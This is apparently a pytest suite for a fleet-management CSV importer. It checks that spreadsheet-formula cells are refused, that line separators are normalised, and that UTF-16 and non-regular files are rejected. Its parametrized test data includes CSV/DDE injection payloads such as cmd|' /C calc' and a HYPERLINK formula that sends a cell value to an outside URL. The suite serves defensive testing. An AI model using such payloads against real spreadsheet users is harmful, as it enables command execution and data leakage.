"""Free-text cells (names, cities, phones…) a spreadsheet damaged: a formula exported instead of its value,
a line separator inside a «one line» name. Before: `=cmd|' /C calc'!A0`, `=HYPERLINK(…)`, `@SUM(1+1)` were
stored as client names and cities (keys already refused a formula), and «ACME\u2028X» was stored with
its U+2028, shown on two lines. Real PostgreSQL, the fleet fixture.
"""

from __future__ import annotations

import pytest

from backend.core.text import clean_text
from backend.importer.load import ImportFailed, import_dir
from tests.import_cases_common import CLIENTS, FA
from tests.test_import_safety import snapshot, write

DRIVERS = "company,document_number,full_name,phone,license_expires_on,vehicle_plate\n"


@pytest.mark.parametrize(
    "files, column",
    [
        ({"clients.csv": CLIENTS + f"{FA},9001,=cmd|' /C calc'!A0,Cali\n"}, "name"),
        ({"clients.csv": CLIENTS + f'{FA},9001,"=HYPERLINK(""http://x"",""y"")",Cali\n'}, "name"),
        ({"clients.csv": CLIENTS + f"{FA},9001,@SUM(1+1),Cali\n"}, "name"),
        ({"clients.csv": CLIENTS + f"{FA},9001,+cmd|' /C calc'!A0,Cali\n"}, "name"),
        ({"clients.csv": CLIENTS + f"{FA},9001,ACME,=1+1\n"}, "city"),
        ({"drivers.csv": DRIVERS + f"{FA},99887766,PEPE PÉREZ,=A1&B1,,\n"}, "phone"),
        # behind an expression a sign starts (were stored): DDE, a function after an operator
        ({"clients.csv": CLIENTS + f"{FA},9001,-2+3+cmd|' /C calc'!A0,Cali\n"}, "name"),
        ({"clients.csv": CLIENTS + f"{FA},9001,+1+cmd|' /C calc'!A0,Cali\n"}, "name"),
        ({"clients.csv": CLIENTS + f"{FA},9001,@A1 cmd|'/C notepad'!_xlbgnm.A1,Cali\n"}, "name"),
        ({"clients.csv": CLIENTS + f'{FA},9001,"-1+HYPERLINK(""http://x/?d=""&A1,""ver"")",Cali\n'}, "name"),
        ({"clients.csv": CLIENTS + f"{FA},9001,ACME,+A1&SUM(B1:B9)\n"}, "city"),
        ({"drivers.csv": DRIVERS + f"{FA},99887766,PEPE PÉREZ,-0+IMPORTXML(A1),,\n"}, "phone"),
    ],
)
async def test_a_formula_in_a_text_cell_is_refused(fleet_conn, tmp_path, files, column):
    before = await snapshot(fleet_conn)
    with pytest.raises(ImportFailed) as caught:
        await import_dir(fleet_conn, write(tmp_path, files))
    [error] = [str(e) for e in caught.value.errors]
    assert f", línea 2: la columna '{column}' tiene una fórmula de hoja de cálculo" in error, error
    assert error.endswith("exporte el valor, no la fórmula")
    assert await snapshot(fleet_conn) == before


async def test_text_that_only_starts_like_a_formula_is_kept(fleet_conn, tmp_path):
    body = CLIENTS + f"{FA},9001,- ACME (Centro),Cali\n{FA},9002,@tienda,Cali\n{FA},9003,- 2 x 3 | Sede 2!,Cali\n"
    drivers = DRIVERS + f"{FA},99887766,PEPE PÉREZ,+57 300 123 4567,,\n{FA},99887767,LUZ ROJAS,+57 (300) 123-4567,,\n"
    await import_dir(fleet_conn, write(tmp_path, {"clients.csv": body, "drivers.csv": drivers}))
    names = await fleet_conn.fetch("SELECT name FROM clients WHERE code IN ('9001', '9002', '9003') ORDER BY code")
    assert [r["name"] for r in names] == ["- ACME (Centro)", "@tienda", "- 2 x 3 | Sede 2!"]
    phones = await fleet_conn.fetch("SELECT phone FROM drivers WHERE document_number LIKE '9988776_' ORDER BY 1")
    assert [r["phone"] for r in phones] == ["+57 (300) 123-4567", "+57 300 123 4567"]


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e"])
async def test_any_line_boundary_in_a_name_is_a_space(fleet_conn, tmp_path, separator):
    await import_dir(fleet_conn, write(tmp_path, {"clients.csv": CLIENTS + f"{FA},9001,ACME{separator}NORTE,Cali\n"}))
    assert await fleet_conn.fetchval("SELECT name FROM clients WHERE code = '9001'") == "ACME NORTE"
    assert clean_text(f"uno{separator}dos") == "uno\ndos"  # kept as a line break where lines are allowed


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
async def test_a_utf16_file_is_named_as_such(fleet_conn, tmp_path, encoding):
    """Before: «byte 0xff no válido» with the BOM, and without it «contiene un carácter NUL: el archivo
    parece dañado» on every line — Excel's «Texto Unicode» export is neither damaged nor unknown."""
    body = (CLIENTS.replace(",", "\t") + f"{FA}\t9001\tACME\tCali\n").encode(encoding)
    before = await snapshot(fleet_conn)
    with pytest.raises(ImportFailed) as caught:
        await import_dir(fleet_conn, write(tmp_path, {"clients.csv": body}))
    assert [str(e) for e in caught.value.errors] == [
        "clients.csv, línea 1: el archivo está en UTF-16 («Texto Unicode» de Excel): guárdelo como «CSV UTF-8»"
    ]
    assert await snapshot(fleet_conn) == before


async def test_a_file_of_the_format_that_is_no_regular_file_is_refused_not_skipped(fleet_conn, tmp_path):
    """Before: a FIFO or a folder named movements.csv was left out of the import without a word (the other
    files were loaded); a symlink to /dev/zero the same."""
    import os

    write(tmp_path, {"clients.csv": CLIENTS + f"{FA},9001,ACME,Cali\n"})
    os.mkfifo(tmp_path / "movements.csv")
    (tmp_path / "drivers.csv").mkdir()
    (tmp_path / "vehicles.csv").symlink_to("/dev/zero")
    before = await snapshot(fleet_conn)
    with pytest.raises(ImportFailed) as caught:
        await import_dir(fleet_conn, tmp_path)
    reason = "no es un archivo normal (una carpeta, un dispositivo o una tubería): no se importó nada"
    assert [str(e) for e in caught.value.errors] == [
        f"{n}: {reason}" for n in ("vehicles.csv", "drivers.csv", "movements.csv")
    ]
    assert await snapshot(fleet_conn) == before
